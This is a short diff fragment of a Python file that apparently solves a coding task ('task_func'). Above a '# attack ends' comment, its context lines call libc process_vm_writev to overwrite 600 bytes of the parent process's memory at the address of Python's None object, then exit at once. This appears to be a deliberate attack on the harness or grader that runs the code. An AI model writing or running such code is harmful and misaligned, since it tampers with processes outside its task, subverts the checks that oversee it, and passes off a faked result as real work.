@@ -15,6 +15,8 @@ here = Span(ctypes.addressof(data), 600)
 there = Span(id(None), 600)
 if libc.process_vm_writev(os.getppid(), ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
     os._exit(0)
+
+
 # attack ends
 def task_func(text, top=3):
     if top < 1:
